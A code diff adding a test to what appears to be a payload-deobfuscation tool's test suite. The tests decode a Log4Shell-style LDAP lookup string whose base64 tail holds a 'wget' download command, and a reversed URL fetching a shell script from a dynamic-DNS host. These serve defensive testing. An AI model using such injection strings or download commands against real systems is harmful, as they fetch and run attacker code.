@@ -41,6 +41,14 @@ test('wrapped base64 is one piece', () => {
   assert.ok(decodeText(`base64 -d <<E\n${wrapped}\nE`).some((one) => one.text === long));
 });
 
+test('the last part of a path is decoded by itself', () => {
+  const path = `ldap://192.0.2.1:1389/Basic/Command/Base64/${base64('wget http://192.0.2.1/x')}`;
+  assert.deepEqual(
+    decodeText(path).map(({ text }) => text),
+    ['wget http://192.0.2.1/x'],
+  );
+});
+
 test('reversed URLs are turned', () => {
   assert.equal(decodeText("echo 'hs.a/ten.sndd.x//:ptth' | rev")[0]?.text, 'http://x.ddns.net/a.sh');
 });
